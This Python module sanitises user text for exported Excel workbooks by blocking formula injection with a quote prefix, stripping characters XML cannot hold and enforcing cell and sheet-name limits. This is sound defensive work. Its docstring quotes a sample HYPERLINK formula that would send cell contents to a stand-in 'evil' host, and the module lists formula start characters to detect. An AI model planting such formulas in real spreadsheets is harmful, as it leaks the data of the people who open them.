"""User text in the workbooks we hand out: always text, never a formula, never a character
the file cannot hold.

Every export writes its rows through :func:`row`. A stored case title such as
``=HYPERLINK("http://evil/?x="&A1,"点我")`` would otherwise become a live formula
(openpyxl makes every string starting with "=" one), and a liaison's ``\\x07`` would make
the whole download fail (XML 1.0 cannot hold it). Exports read what is already stored,
whatever the gate accepted when it was written, so the rule lives here, at the writer.
"""

from __future__ import annotations

from collections.abc import Iterable
from typing import Any

from openpyxl.cell.cell import ERROR_CODES, Cell
from openpyxl.workbook.child import INVALID_TITLE_REGEX

from sync.domain import text as user_text

XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"

# What XML 1.0 cannot carry: C0 controls but tab, line feed and carriage return; lone
# surrogates (no UTF-8 for them); U+FFFE and U+FFFF.
# Starts that spreadsheet programs read as a formula when the cell is edited or the text
# pasted (OWASP's list, with the full-width forms a Chinese input method types).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
# Excel's cell limit counts UTF-16 code units.
MAX_CELL_UNITS = 32_767


def xml_text(value: str) -> str:
    """``value`` without the characters user text may not hold (``text.FORBIDDEN``, which
    takes in every one an XML document cannot hold): an export shows what is stored as
    the gate would take it today."""
    return user_text.strip(value)


def cell_text(text: str) -> str:
    """``text`` as a cell can hold it: what XML cannot carry removed, line breaks as the
    file keeps them (an XML reader turns CR LF and a lone CR into LF), at most Excel's
    32,767 units."""
    text = xml_text(text).replace("\r\n", "\n").replace("\r", "\n")
    if len(text) > MAX_CELL_UNITS // 2 and len(text.encode("utf-16-le")) > 2 * MAX_CELL_UNITS:
        units = 0
        for end, char in enumerate(text):
            units += 2 if ord(char) > 0xFFFF else 1
            if units > MAX_CELL_UNITS:
                return text[:end]
    return text


def needs_text_cell(text: str) -> bool:
    """Whether openpyxl or a spreadsheet program would take ``text`` for something other
    than text: a formula start, or an error value such as ``#N/A``."""
    return text.startswith(FORMULA_STARTS) or text in ERROR_CODES


def cell(sheet: Any, value: Any) -> Any:
    """What to append to ``sheet`` for ``value``: other values as they are, text as text.

    Text that looks like a formula becomes a string cell with Excel's quote prefix (shown
    as typed, kept as text when edited); the user's words are never changed to get there.
    """
    if not isinstance(value, str):
        return value
    text = cell_text(value)
    if not needs_text_cell(text):
        return text
    # A row and column so that a write-only sheet, which tries the cell as a value first,
    # can print it in its error; append() moves it to its place.
    written = Cell(sheet, row=1, column=1, value=text)
    written.data_type = "s"
    written.quotePrefix = True
    return written


def row(sheet: Any, values: Iterable[Any]) -> list[Any]:
    """One row of ``sheet``, every value through :func:`cell`."""
    return [cell(sheet, value) for value in values]


def sheet_title(text: str) -> str:
    """A sheet's name from user text (a community's name): without the characters Excel
    refuses there, not starting or ending with an apostrophe, 1 to 31 characters."""
    title = INVALID_TITLE_REGEX.sub("_", " ".join(xml_text(text).split()))[:31].strip("'")
    return title or "-"
